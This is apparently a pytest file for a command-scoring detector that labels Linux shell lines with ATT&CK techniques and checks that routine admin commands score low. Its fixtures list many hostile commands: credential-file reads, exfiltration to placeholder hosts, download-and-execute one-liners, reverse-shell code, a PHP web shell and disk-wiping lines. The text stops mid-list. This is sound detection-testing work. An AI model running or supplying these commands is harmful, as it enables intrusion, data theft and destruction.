"""Knowledge of sensitive behaviour: each behaviour names its ATT&CK technique; routine work does not."""

from __future__ import annotations

import shlex
import time

import pytest

from core.event import ProcessEvent
from scoring.commands import Command, parse_script
from scoring.heuristics import assess
from scoring.knowledge import assess_command, location_of, writes_of


def _techniques(line: str) -> dict[str, float]:
    found: dict[str, float] = {}
    for command in parse_script(line).commands():
        for evidence in assess_command(command):
            found[evidence.technique] = max(found.get(evidence.technique, 0.0), evidence.weight)
    return found


SENSITIVE = [
    # credentials
    ("cat /etc/shadow > /tmp/s", "T1003.008"),
    ("cp /home/deploy/.ssh/id_rsa /dev/shm/k", "T1552.004"),
    ("cat ~/.aws/credentials", "T1552.001"),
    ("grep -ri password /var/www", "T1552.001"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "T1552.005"),
    ("cat /root/.bash_history", "T1552.003"),
    # persistence
    ("echo '* * * * * root /tmp/x' >> /etc/crontab", "T1053.003"),
    ("crontab /tmp/job", "T1053.003"),
    ("echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", "T1098.004"),
    ("cp evil.service /etc/systemd/system/", "T1543.002"),
    ("echo /tmp/x.so > /etc/ld.so.preload", "T1574.006"),
    ("echo 'curl x|sh' >> /home/u/.bashrc", "T1546.004"),
    ("at now + 1 minute -f /tmp/job", "T1053.002"),
    ("useradd -o -u 0 backdoor", "T1136.001"),
    ("usermod -aG sudo bob", "T1098"),
    ("insmod /tmp/rk.ko", "T1547.006"),
    # defence evasion
    ("systemctl stop auditd", "T1562.001"),
    ("systemctl disable falco", "T1562.001"),
    ("setenforce 0", "T1562.001"),
    ("iptables -F", "T1562.004"),
    ("auditctl -D", "T1562.012"),
    ("unlink /var/log/messages", "T1070.002"),
    ("truncate -s 0 /var/log/wtmp", "T1070.002"),
    ("rm -f /root/.bash_history", "T1070.003"),
    ("export HISTFILE=/dev/null", "T1070.003"),
    ("touch -r /bin/ls /tmp/x", "T1070.006"),
    ("chmod u+s /tmp/.b", "T1548.001"),
    ("chmod 4755 /tmp/x", "T1548.001"),
    ("chown root /tmp/x", "T1222.002"),
    ("cp /bin/sleep /tmp/.kworker", "T1036.003"),
    ("/tmp/.kworker", "T1036.004"),
    ("'[kworker/0:2]' -d", "T1036.004"),
    # collection, exfiltration, command and control, impact
    ("gpg -c /tmp/stage.tar.gz", "T1560.001"),
    ("wget --post-file=/etc/shadow http://x.example", "T1048"),
    ("nc 203.0.113.5 443 < /etc/passwd", "T1048"),
    ("wget http://203.0.113.9:8080/x -O /dev/shm/.x", "T1105"),
    ("./xmrig -o stratum+tcp://pool.example:3333", "T1496"),
    ("nmap -sS 10.0.0.0/24", "T1046"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "T1561.001"),
    ("ssh -R 8080:localhost:22 user@203.0.113.7", "T1572"),
]


@pytest.mark.parametrize(("line", "technique"), SENSITIVE)
def test_sensitive_behaviour_is_named_with_its_technique(line: str, technique: str) -> None:
    found = _techniques(line)
    assert technique in found, (line, found)
    assert found[technique] >= 0.3, (line, found)


ROUTINE = [
    "ls -la /var/log",
    "tail -n 50 /var/log/nginx/access.log",
    "install -m 0600 /etc/letsencrypt/live/example.org/privkey.pem /etc/nginx/tls/privkey.pem",
    "cat /root/.ssh/authorized_keys",
    "crontab -l",
    "systemctl reload nginx",
    "systemctl status auditd",
    "find /var/log -name *.gz -mtime +30 -delete",
    "mv /var/log/nginx/access.log /var/log/nginx/access.log.1",
    "gzip /var/log/nginx/access.log.1",
    "tar czf /srv/backup/www.tgz /srv/www",
    "tar xzf /tmp/gh.tgz -C /tmp",
    "tar -x -f /root/.ssh/keys-backup.tar -C /root/.ssh",
    "tar xf /tmp/release.tar src",
    "curl -sSf https://example.org/health",
    "git clone https://github.com/example/repo.git",
    "chmod 644 /etc/nginx/nginx.conf",
    "cp config.yaml /etc/app/config.yaml",
    "journalctl -u ssh --since -1h",
    "ps aux",
    "id",
]


@pytest.mark.parametrize("line", ROUTINE)
def test_routine_work_carries_no_strong_evidence(line: str) -> None:
    found = _techniques(line)
    assert all(weight < 0.3 for weight in found.values()), (line, found)


def test_reads_are_judged_by_what_reads() -> None:
    shipped = _techniques("base64 /etc/ssl/private/site.key")
    deployed = _techniques("install -m 0600 /etc/ssl/private/site.key /etc/nginx/tls/site.key")
    assert shipped.get("T1552.004", 0) > deployed.get("T1552.004", 0)


def test_application_logs_are_not_security_logs() -> None:
    assert location_of("/var/log/auth.log") is not None
    assert location_of("/var/log/nginx/access.log") is None
    assert location_of("/var/log/myapp/app.log") is None


def test_hostile_arguments_cost_bounded_time() -> None:
    started = time.perf_counter()
    for filler in ("a" * 200_000, "/" * 200_000, "-" * 200_000, "$(" * 50_000):
        assess_command(Command(("chmod", filler, "/tmp/" + filler)))
        assess_command(Command(("curl", "-sO" + filler, filler, "http://x/" + filler)))
        assess_command(Command(("wget", *[filler] * 80)))
        parse_script("echo " + filler + " > /etc/cron.d/x")
    assert time.perf_counter() - started < 2.0


MORE_SENSITIVE = [
    ("export PATH=/tmp:$PATH", "T1574.007"),
    ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
    ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
    ("for x in $(xxd -p secret.txt); do dig $x.exfil.example.com; done", "T1048.003"),
    ("find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked ;", "T1560.001"),
    ("openssl s_client -quiet -connect 203.0.113.1:443", "T1573"),
    ("aws sts get-caller-identity", "T1552.001"),
    ("kubectl get secrets -A -o yaml", "T1552.007"),
    ("shred -u /tmp/x", "T1070.004"),
    ("upx /tmp/x", "T1027.002"),
    ("trap 'curl x | sh' EXIT", "T1546.005"),
    ("gcore 1234", "T1003.007"),
    ("for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done", "T1018"),
    ("for h in {1..20}; do nc -zv ${NET}.1.$h 22; done", "T1018"),
]


@pytest.mark.parametrize(("line", "technique"), MORE_SENSITIVE)
def test_more_techniques_are_named(line: str, technique: str) -> None:
    found = _techniques(line)
    assert found.get(technique, 0) >= 0.3, (line, found)


def test_stopping_an_ordinary_service_is_weak_and_counted_once() -> None:
    found = _techniques("systemctl disable mysql")
    assert found == {"T1489": 0.15}


STAGED_AND_HIDDEN = [
    ("tar czf /tmp/.k.tgz /root/.ssh", "T1552.004"),
    ("tar czf /var/tmp/.w.tgz /srv/www", "T1074.001"),
    ("scp /tmp/.d.tgz op@203.0.113.50:", "T1048"),
    ("gcc -o /tmp/.x exploit.c", "T1027.004"),
    ("nohup /var/tmp/.u", "T1204.002"),
    ("echo 0 > /proc/sys/kernel/yama/ptrace_scope", "T1562.001"),
    ("echo /tmp/x >> /home/u/.git/hooks/post-merge", "T1546"),
    ("shred -zu /tmp/.x", "T1070.004"),
    ("find / -perm -u=s -type f", "T1083"),
    ("python3 mimipenguin.py", "T1003"),
    ("tmate -S /tmp/.tm new-session -d", "T1219"),
    ("curl gopher://203.0.113.9:70/_x", "T1105"),
]


@pytest.mark.parametrize(("line", "technique"), STAGED_AND_HIDDEN)
def test_staging_hiding_and_tools_are_named(line: str, technique: str) -> None:
    assert technique in _techniques(line), (line, _techniques(line))


ROUTINE_THAT_LOOKS_SENSITIVE = [
    "sh -c until nc -z db 5432; do sleep 1; done; psql -c select 1",
    "docker run --rm -v /srv/ci/ws/:/src builder make",
    "rm -f /var/log/syslog.7.gz",
    "chmod 700 /home/jdoe/.ssh",
    "gpg --batch -e -r backups@example.org /var/backups/etc.tgz",
    "journalctl --vacuum-time=30d",
    "iptables -P INPUT ACCEPT",
    "ln -sf /dev/null /etc/systemd/system/apt-daily.service",
    "sed -i s/^#PermitRootLogin.*/PermitRootLogin no/ /etc/ssh/sshd_config",
    "gdb -p 2211 -batch -ex bt",
]


@pytest.mark.parametrize("line", ROUTINE_THAT_LOOKS_SENSITIVE)
def test_routine_work_that_looks_sensitive_stays_weak(line: str) -> None:
    args = tuple(line.split()) if not line.startswith("sh -c") else ("sh", "-c", line[6:])
    strong = [e for e in assess(ProcessEvent(args[0], line, args)) if e.weight >= 0.3]
    assert not strong, (line, strong)


def test_a_tls_connection_by_hand_counts_when_it_carries_data() -> None:
    """`-quiet` (or a redirection) is a tunnel for data; printing the handshake is how people check a certificate."""
    assert _techniques("openssl s_client -connect example.com:443 -servername example.com")["T1573"] < 0.3
    assert _techniques("openssl s_client -quiet -connect 198.51.100.7:4443")["T1573"] >= 0.3
    assert _techniques("openssl s_client -connect 198.51.100.7:4443 < /etc/passwd")["T1573"] >= 0.3


def test_another_process_environment_is_credential_access_and_the_readers_own_is_not() -> None:
    assert _techniques("cat /proc/1/environ")["T1552"] >= 0.25
    assert _techniques("strings /proc/*/environ")["T1552"] >= 0.45
    assert "T1552" not in _techniques("strings /proc/self/environ")


@pytest.mark.parametrize("line", ["rm -rf /var/lib/postgresql/15/main", "rm -r /var/lib/mysql/", "rm -Rf /etc",
                                  "rm -rf /var/www/html/*", "rm --recursive /srv"])
def test_deleting_a_data_store_whole_is_destruction(line: str) -> None:
    assert _techniques(line).get("T1485", 0) >= 0.3, line


@pytest.mark.parametrize("line", ["rm -rf /srv/work/ci/ws.JSRCvs", "rm -rf /home/alice", "rm -rf /tmp/build",
                                  "rm -f /var/www/html/old.php", "rm /var/lib/mysql/mysql.sock"])
def test_deleting_inside_a_data_tree_or_a_retired_home_is_housekeeping(line: str) -> None:
    assert "T1485" not in _techniques(line), line


def test_a_capture_set_up_for_cleartext_logins_counts_more_than_one_debugging_a_service() -> None:
    assert _techniques("tcpdump -i any -A -s0 port 21 or port 110 -w /tmp/.cap")["T1040"] >= 0.3
    assert _techniques("tcpdump -i eth0 -n port 53 -c 20")["T1040"] < 0.3


def test_a_lookup_of_a_host_held_in_a_variable_sends_no_data() -> None:
    assert "T1048.003" not in _techniques("for h in $HOSTS; do dig +short $h; done")
    assert "T1048.003" not in _techniques("host example.com")


def test_one_address_or_a_loop_over_hosts_by_name_is_no_sweep() -> None:
    assert "T1018" not in _techniques("ping -c 3 10.0.0.1")
    assert "T1018" not in _techniques("for h in web1 web2; do ssh $h uptime; done")


def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
    assert _techniques("sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config")["T1098.004"] >= 0.4


@pytest.mark.parametrize(("line", "saved"), [
    ("curl -s -o agent http://203.0.113.9/agent", ("agent",)),
    ("curl -fsSLo /tmp/k http://203.0.113.9/k", ("/tmp/k",)),  # -o at the end of a cluster, its value next
    ("curl -sO http://203.0.113.9/agent", ("agent",)),  # -O: named after the URL
    ("curl --remote-name https://example.org/a/b.sh?v=2#top", ("b.sh",)),
    ("curl -H 'Referer: http://a/b' --output-dir /dev/shm -O http://203.0.113.9/z", ("/dev/shm/z",)),
    ("curl http://203.0.113.9/s.sh", ()),  # to standard output
    ("wget http://203.0.113.9/bot", ("bot",)),  # wget saves by default
    ("wget -q -P /var/tmp http://203.0.113.9/bot", ("/var/tmp/bot",)),
    ("wget -qO /tmp/.k http://203.0.113.9/k", ("/tmp/.k",)),  # O's value after the cluster
    ("wget -qO- http://203.0.113.9/s.sh", ()),
    ("wget --output-document=- http://203.0.113.9/s.sh", ()),
    ("wget https://example.org/", ("index.html",)),
    ("wget -q --spider http://localhost:8080/health", ()),  # a health check saves nothing
    ("lwp-download http://203.0.113.9/a/kit.tgz /var/tmp/.k", ("/var/tmp/.k",)),
    ("lwp-download https://example.org/a/kit.tgz", ("kit.tgz",)),  # named after the URL, as wget does
    ("axel -n 4 -o /dev/shm/x http://203.0.113.9/x", ("/dev/shm/x",)),
])
def test_downloads_name_the_files_they_save(line: str, saved: tuple[str, ...]) -> None:
    """What a download writes, as the file a later `chmod` or `./name` refers to."""
    assert writes_of(parse_script(line).commands()[0]) == saved


@pytest.mark.parametrize(("line", "cwd", "weight", "reason"), [
    ("python3 -m http.server 8000", "/etc", 0.5, "python serves /etc over the network"),
    ("sudo python3 -m http.server -d /root 80", "/tmp", 0.5, "python serves /root over the network"),
    ("sudo -u www nohup python3 -m http.server 80", "/etc", 0.5, "python serves /etc over the network"),
    ("ruby -run -e httpd . -p 8000", "/home/u/.ssh", 0.5, "ruby serves /home/u/.ssh over the network"),
    ("php -S 0.0.0.0:8080 -t /", "/srv", 0.5, "php serves / over the network"),
    ("busybox httpd -f -p 8080 -h /var/backups", "/", 0.5, "httpd serves /var/backups over the network"),
    ("python3 -m http.server", "/home/u/site", 0.2, "python serves a directory over the network"),
    ("php -S 127.0.0.1:8000", "", 0.2, "php serves a directory over the network"),  # no cwd: not judged as "/"
    ("python3 -m http.server", "/etcetera", 0.2, "python serves a directory over the network"),
])
def test_a_directory_served_by_one_command_is_named_by_what_it_exposes(line: str, cwd: str, weight: float,
                                                                        reason: str) -> None:
    args = tuple(line.split())
    found = [e for e in assess(ProcessEvent(args[0], line, args, working_directory=cwd)) if "serves" in e.reason]
    assert [(e.weight, e.reason[:len(reason)]) for e in found] == [(weight, reason)]


@pytest.mark.parametrize("line", ["python3 manage.py runserver", "python3 -m pip install requests", "php artisan serve",
                                  "ruby -e 'puts 1'", "busybox ls"])
def test_programs_that_are_not_file_servers_serve_nothing(line: str) -> None:
    args = tuple(line.split())
    assert not [e for e in assess(ProcessEvent(args[0], line, args, working_directory="/etc")) if "serves" in e.reason]


NETWORK_FROM_ARGUMENTS = [  # (argv, technique, weight at least)
    (("perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.9.8.7")))'),
     "T1095", 0.3),
    (("perl", "-MIO::Socket::INET", "-e", '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:443")'), "T1095", 0.3),
    (("ruby", "-e", 'TCPSocket.open("c2.example.net", 8443).puts `id`'), "T1095", 0.3),
    (("node", "-e", 'require("net").connect(9001, "198.51.100.2")'), "T1095", 0.3),
    (("awk", 'BEGIN { s = "/inet/tcp/0/198.51.100.2/9001"; print "hi" |& s }'), "T1095", 0.3),
    (("whois", "-h", "c2.example.net", "-p", "4444", "payload"), "T1071", 0.15),
    (("tar", "cf", "ops@drop.example.net:/x/etc.tar", "/etc", "--rsh-command=/usr/bin/ssh"), "T1071", 0.15),
    (("sshfs", "ops@c2.example.net:/", "/mnt/x"), "T1071", 0.15),
    (("finger", "secret@c2.example.net"), "T1071", 0.15),
]


@pytest.mark.parametrize(("args", "technique", "weight"), NETWORK_FROM_ARGUMENTS)
def test_connections_named_in_arguments_or_inline_code_are_evidence(args: tuple[str, ...], technique: str,
                                                                     weight: float) -> None:
    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))}
    assert found.get(technique, 0.0) >= weight, (args, found)


def test_a_data_store_client_on_the_internal_network_is_weak_and_elsewhere_is_not() -> None:
    """`redis-cli -h 10.1.2.40` is how admins reach their services; the same client to a public host may be
    data leaving."""
    def weight(*args: str) -> float:
        return max((e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args)) if e.technique == "T1071"),
                   default=0.0)

    assert weight("redis-cli", "-h", "10.1.2.40", "info", "memory") == 0.15
    assert weight("psql", "-h", "192.168.3.9", "-U", "app", "-c", "select 1") == 0.15
    assert weight("psql", "-h", "203.0.113.5", "-U", "app") == 0.3
    assert weight("whois", "-h", "10.1.2.40", "payload") == 0.3  # not a data store's client


@pytest.mark.parametrize("args", [
    ("python3", "-c", "import socket; print(socket.gethostname())"),
    ("gpg", "-e", "-r", "backups@example.org", "/var/backups/etc.tgz"),
    ("awk", "-F:", "{print $1}", "/etc/passwd"),
])
def test_socket_words_and_mail_addresses_alone_are_no_connection(args: tuple[str, ...]) -> None:
    found = {e.technique for e in assess(ProcessEvent(args[0], " ".join(args), args))}
    assert not found & {"T1095", "T1071"}, (args, found)


PERSISTENCE_AND_ESCAPE_PLACES = [
    ("printf '#!/bin/sh\\n/usr/local/lib/.n &\\n' > /etc/systemd/system-generators/n", "T1543.002"),
    ("echo 'nohup /var/lib/.c/x &' >> /root/.ssh/rc", "T1546"),
    ("echo 'import os;os.system(\"id\")' > /usr/lib/python3/dist-packages/zz.pth", "T1546.018"),
    ("tee -a /etc/sudoers.tmp", "T1548.003"),
    ("echo /tmp/x > /tmp/cgrp/release_agent", "T1611"),
    ("cp rk.ko /lib/modules/6.1.0-13-amd64/extra/", "T1547.006"),
    ("sed -i s/^auth/#auth/ /etc/rsyslog.d/50-default.conf", "T1562.001"),
    ("echo 'APT::Update::Pre-Invoke {\"curl -s http://x/a | sh\"};' > /etc/apt/apt.conf.d/00u", "T1546.016"),
    ("echo 'auto_prepend_file=/var/lib/php/.s' >> /etc/php/8.2/fpm/php.ini", "T1505.003"),
]




def test_package_and_php_settings_count_only_when_they_run_code() -> None:
    assert _techniques("echo 'Acquire::http::Proxy \"http://proxy:3128\";' > /etc/apt/apt.conf.d/01proxy") == {}
    assert _techniques("echo memory_limit=512M >> /etc/php/8.2/fpm/php.ini") == {}


TOOLS_AND_ACTS = [
    ("debugfs -R 'cat /etc/shadow' /dev/sda1", "T1003.008"),
    ("gdb -p 812 -batch -ex 'call (void*)dlopen(\"/dev/shm/.l.so\", 2)'", "T1055.009"),
    ("mount -o bind /tmp/.e /proc/4242", "T1564"),
    ("docker run --rm -v /var/run/docker.sock:/var/run/docker.sock alpine", "T1611"),
    ("mysql -u root -e 'DROP DATABASE shop'", "T1485"),
    ("curl -sk -XPOST https://10.0.0.21:10250/run/kube-system/etcd/etcd -d cmd=ls", "T1609"),
    ("pkill -f kinsing", "T1496"),
    ("nc -zv -w1 10.0.0.5 1-1024", "T1046"),
    ("ping -c1 -p 4142434445 10.0.0.9", "T1048.003"),
    ("cloudflared tunnel --url ssh://localhost:22", "T1572"),
    ("grep -rEo 'AKIA[0-9A-Z]{16}' /home /srv", "T1552.001"),
    ("kubectl get secret db -o jsonpath={.data.password}", "T1552.007"),
    ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default", "T1098.006"),
    ("rclone copy /srv/data mega:loot --transfers 16", "T1567.002"),
]



@pytest.mark.parametrize(("args", "technique"), [
    (("python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"), "T1140"),
    (("php", "-r", "eval(base64_decode('ZWNobyAx'));"), "T1140"),
    (("node", "-e", "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"), "T1140"),
    (("python3", "-c", "import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())"), "T1105"),
])
def test_inline_code_that_runs_what_it_decodes_or_downloads_is_named(args: tuple[str, ...], technique: str) -> None:
    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))}
    assert found.get(technique, 0) >= 0.45, (args, found)


def test_inline_code_that_only_decodes_or_only_runs_a_file_is_plain_inline_code() -> None:
    for args in (("python3", "-c", "import base64,sys; print(base64.b64decode(sys.argv[1]))"),
                 ("python3", "-c", "f=open('setup.py'); exec(compile(f.read(), 'setup.py', 'exec'))")):
        assert max(e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))) < 0.3, args


@pytest.mark.parametrize(("path", "hidden"), [
    ("/var/lib/.systemd/systemd-journal", True), ("/usr/share/.x/y", True), ("/etc/.x", True), ("/srv/.r/run", True),
    ("/srv/work/ci/.venv/bin/python", False), ("/opt/app/.venv/bin/python", False), ("/srv/.venv/bin/python", False),
    ("/var/lib/jenkins/.nvm/versions/node/bin/node", False), ("/home/u/.local/bin/tool", False),
])
def test_a_program_in_a_dot_directory_of_a_system_directory_is_hiding(path: str, hidden: bool) -> None:
    found = assess(ProcessEvent(path.rsplit("/", 1)[-1], path, (path,), executable_path=path))
    assert any(e.technique == "T1564.001" for e in found) == hidden, (path, found)


def test_a_cloud_copy_is_judged_once_not_also_as_a_remote_endpoint() -> None:
    args = ("aws", "s3", "cp", "/var/backups/app.dump", "s3://corp-backups/db/app.dump")
    reasons = [e.reason for e in assess(ProcessEvent("aws", " ".join(args), args))]
    assert reasons == ["aws copies files to cloud storage"], reasons


def test_a_unit_copied_from_a_release_tree_counts_less_than_one_staged_in_temp() -> None:
    deployed = _techniques("cp /srv/app/deploy/app.service /etc/systemd/system/app.service")["T1543.002"]
    staged = _techniques("cp /tmp/x.service /etc/systemd/system/x.service")["T1543.002"]
    hidden = _techniques("cp /opt/.x/s /etc/cron.d/s")["T1053.003"]
    assert deployed < 0.3 <= staged and hidden >= 0.3


def _assessed(line: str, parent: str = "bash", uid: int = 1000) -> dict[str, float]:
    """The technique weights of one exec of `line` (argv as a shell would split it)."""
    args = tuple(shlex.split(line))
    path = args[0] if args[0].startswith("/") else f"/usr/bin/{args[0]}"
    event = ProcessEvent(args[0].rsplit("/", 1)[-1], " ".join(args), args, executable_path=path, parent_name=parent,
                         user_id=uid)
    found: dict[str, float] = {}
    for evidence in assess(event):
        found[evidence.technique] = max(found.get(evidence.technique, 0.0), evidence.weight)
    return found


@pytest.mark.parametrize(("line", "technique", "weight"), [
    ('bash -c "$(curl -fsSL http://203.0.113.9/s.sh)"', "T1105", 0.8),  # the substitution is the command
    ('sh -c "$(echo Y3VybCB4IHwgc2g= | base64 --decode)"', "T1140", 0.7),
    ("env LD_PRELOAD=/tmp/evil.so ls", "T1574.006", 0.45),  # the wrapper's assignment counts
    ("bash /tmp/LinEnum.sh -t", "T1068", 0.7),  # tool names whatever their case
    ("python3 /dev/shm/.a.py", "T1204.002", 0.5),  # a script run from shared memory or a hidden file
    ("bash /tmp/x.sh", "T1204.002", 0.3),
    ("ssh -i /tmp/id_rsa root@10.0.0.5", "T1021.004", 0.35),  # a key kept in a temp place
    ("curl -F file=@/etc/passwd https://attacker.example/u", "T1048", 0.4),  # a system file sent out
    ("python3 -c \"print(open('/etc/shadow').read())\"", "T1003.008", 0.6),  # inline code opens a secret
    ("python3 -c 'import ctypes;ctypes.CDLL(\"/dev/shm/.k/l.so\")'", "T1129", 0.5),  # a staged library loaded
    ("python3 -c 'import os;os.system(\"/tmp/.x\")'", "T1204.002", 0.4),  # a staged program started
    ("perl -e 'eval(pack(\"H*\",\"73797374656d\"))'", "T1140", 0.45),  # hex unpacked and evaluated
    ("bash -c '{echo,aWQ=}|{base64,-d}|{bash,-i}'", "T1027", 0.5),  # a command written as brace expansions
    # a socket that listens and is handed a shell
    ("python3 -c 'import socket,os;s=socket.socket();s.bind((\"\",4444));s.listen(1);c,a=s.accept();"
     "os.dup2(c.fileno(),0);os.system(\"/bin/sh\")'", "T1059.004", 0.7),
    # a socket whose input runs as commands (backticks), in an interpreter not named anywhere here
    ("crystal eval 's=TCPSocket.new(\"203.0.113.9\",9001); loop { s.puts `#{s.gets}` }'", "T1059.004", 0.8),
])
def test_one_exec_forms_are_read_as_what_they_run(line: str, technique: str, weight: float) -> None:
    assert _assessed(line).get(technique, 0) >= weight, (line, _assessed(line))


@pytest.mark.parametrize("line", [
    "sudo useradd -m -s /bin/bash jdoe",  # the shell is the account's, not sudo's
    "ssh deploy@10.0.0.5 uptime",
    "scp /var/backups/etc.tgz backup@10.0.0.5:/srv/backups/",
    'eval "$(ssh-agent -s)"',
    "bash ./install.sh",
])
def test_their_everyday_forms_stay_below_suspicion(line: str) -> None:
    found = {t: w for t, w in _assessed(line).items() if t not in ("T1548.003", "T1136.001", "T1570")}
    assert all(weight < 0.3 for weight in found.values()), (line, found)


def test_a_build_frontend_running_its_script_from_temp_is_not_a_dropper() -> None:
    assert "T1204.002" not in _assessed("python3 /tmp/pip-build-env-x/setup.py", parent="pip")


HIDDEN_STAGED_OR_DESTROYED = [
    ('mkdir "/tmp/. /"', "T1564.001"),  # a name a listing shows as `.`
    ("cp /tmp/x /usr/sbin/sshd", "T1554"),  # a staged file over a program intruders replace
    ("echo '<?php system($_GET[c]); ?>' > /var/www/html/x.php", "T1505.003"),
    ("mv /tmp/payload /dev/shm/.payload", "T1564.001"),
    ("cp /tmp/x /var/lib/.cache/x", "T1564.001"),
    ("mv x /tmp/kworker", "T1036.005"),
    ("cp -r /var/lib/mysql /tmp/db", "T1074.001"),
    ("find /home -type f -delete", "T1485"),
    ("echo b > /proc/sysrq-trigger", "T1529"),
]
# Fetched by clients other than curl and wget into staging, set as git's own programs, carried in DNS names,
# tickets taken, a microphone recorded, partition tables erased
FETCHED_HOOKED_OR_CARRIED = [
    ("scp op@203.0.113.9:/srv/kit.tgz /tmp/", "T1105"),
    ("rsync -a rsync://203.0.113.9/t/ /dev/shm/.k/", "T1105"),
    ("tftp 203.0.113.9 -c get lin.sh /tmp/lin.sh", "T1105"),
    ("smbclient //203.0.113.9/s -N -c 'get implant /dev/shm/implant'", "T1105"),
    ("aria2c -d /dev/shm -o k http://203.0.113.9/m", "T1105"),
    ("nc -l 9002 > /tmp/agent", "T1105"),
    ("socat -u TCP:203.0.113.9:9004 OPEN:/tmp/t,creat", "T1105"),
    ("git config --global core.fsmonitor /tmp/.x", "T1546"),
    ("git -c core.pager='sh -c id' log", "T1546"),
    ("dig +short 726f6f743a24793a2436537a4a.a.example.net", "T1048.003"),
    ("aws s3 cp /var/backups/db.sql s3://drop-9911/ --no-sign-request", "T1567.002"),
    ("docker run -d --restart always metal3d/xmrig", "T1496"),
    ("sed -i /203.0.113.9/d /var/log/nginx/access.log", "T1070.002"),
    ("sqlite3 /home/u/.mozilla/firefox/p.default/logins.json .dump", "T1552.001"),
    ("cat /var/lib/jenkins/secrets/master.key", "T1552.001"),
    ("echo alias sudo=/tmp/.x >> /home/u/.bash_aliases", "T1546.004"),
    ("cp /tmp/krb5cc_1000 /dev/shm/c", "T1558.005"),  # a Kerberos ticket cache
    ("arecord -d 60 -f cd /tmp/a.wav", "T1123"),
    ("sgdisk --zap-all /dev/nvme0n1", "T1561.002"),
    ("blkdiscard -f /dev/sdb", "T1561.001"),
    ("atftp -g -r beacon -l /dev/shm/b 203.0.113.9", "T1105"),
    ("smbclient //203.0.113.9/drop -N -c 'put /tmp/dump.sql.gz d.gz'", "T1048"),
    ("grep -rInE 'password|api_key' /var/www /etc", "T1552.001"),  # an alternation names the secret
    ("grep -a -o PASS=[^\\s]* /proc/*/cmdline", "T1552"),  # every process's command line, searched
    ("debugfs -w /dev/sda1", "T1006"),  # the file system edited off the device
    ("socat -u FILE:/etc/shadow TCP:203.0.113.9:9002", "T1003.008"),  # socat's FILE: address is read
    ("scp -r /var/www/html/config op@203.0.113.9:/loot/", "T1048"),  # a data tree to a public address
    ("cat /opt/tomcat/conf/tomcat-users.xml", "T1552.001"),
    ("cat /etc/kubernetes/admin.conf", "T1552.001"),
    ("gdb -p 912 -batch -ex 'dump memory /tmp/m 0x0 0x1000'", "T1003.007"),
    ("aws iam create-access-key --user-name admin", "T1098.001"),
    ("env -i PATH=GCONV_PATH=. CHARSET=PWNKIT /usr/bin/pkexec", "T1068"),
    ("./CVE-2021-4034", "T1068"),  # a program named after a vulnerability
    ("find /var/www -type f -exec shred -u {} +", "T1485"),
    ("ssh -fNR 2222:localhost:22 op@203.0.113.9", "T1572"),  # -R inside a cluster of flags
    ("git clone https://203.0.113.9/les /dev/shm/les", "T1105"),
    ("openssl req -engine /tmp/eng.so", "T1129"),
    ("pip install /tmp/evilpkg", "T1546.016"),
]


def test_a_search_of_process_environments_for_secrets_counts_more_than_reading_one() -> None:
    hunted = _techniques("grep -a -E 'PASS|TOKEN|SECRET' /proc/1190/environ")["T1552"]
    read = _techniques("grep -i path /proc/1190/environ")["T1552"]
    assert read < 0.3 <= hunted


@pytest.mark.parametrize(("line", "technique"),
                         PERSISTENCE_AND_ESCAPE_PLACES + TOOLS_AND_ACTS + HIDDEN_STAGED_OR_DESTROYED +
                         FETCHED_HOOKED_OR_CARRIED)
def test_less_common_techniques_are_named(line: str, technique: str) -> None:
    assert _techniques(line).get(technique, 0) >= 0.3, (line, _techniques(line))


@pytest.mark.parametrize("line", [
    "kubectl create secret tls web-tls --cert=fullchain.pem --key=privkey.pem",
    "kubectl get secret web-tls -n app",
    "nc -z db 5432",
    "mount -t nfs srv:/export /mnt",
    "pkill -f gunicorn",
    "mysqldump --single-transaction app",
    "grep -rn TODO src/",
    "cp -r db/migration /srv/app/migration2",
    "mv /srv/app/.env.new /srv/app/.env",
    "find /var/log -name *.gz -mtime +30 -delete",
    "find /srv/backups -delete",
    "cp /srv/app/release.tgz /tmp/release.tgz",
    "rclone sync /var/backups b2:corp-backups",
    "mkdir -p /tmp/build/.cache",
    "cp ./build/app /usr/bin/app",
    "cp index.php /var/www/html/index.php",
    "scp deploy@10.0.0.5:/srv/app/build.tgz /home/deploy/",
    "rsync -az backup01:/backups/ /srv/restore/",
    "git config --global core.editor vim",
    "git config --global credential.helper store",
    "sed -i s/debug/info/ /var/log/app/settings.log",
    "dig +short api.example.org",
    "curl -s http://localhost:9100/metrics",
    "cat /proc/1234/cmdline",
    "useradd --system --no-create-home --shell /usr/sbin/nologin node_exporter",
    "rsync -az /srv/app/ deploy@10.0.0.8:/srv/app/",  # a deployment to a private address
    "git clone https://github.com/org/repo.git /srv/app",
    "pip install -r requirements.txt",
    "openssl req -new -key server.key -out server.csr",
    "grep -r TODO src/",
    "docker run --rm -v /srv:/src builder make",
])
def test_their_routine_neighbours_stay_weak(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


WHOLESALE_IMPACT_AND_SECRETS = [  # (line, technique, weight at least)
    ("kill -9 -1", "T1489", 0.4),
    ("pkill -f aliyun|qcloud|bcm-agent", "T1562.001", 0.5),
    ("systemctl stop postgresql mysql nginx docker", "T1489", 0.35),
    ("systemctl poweroff -i", "T1529", 0.2),
    ("find / -name *.sql -delete", "T1485", 0.35),
    ("kubectl delete namespace production --grace-period=0 --force", "T1485", 0.4),
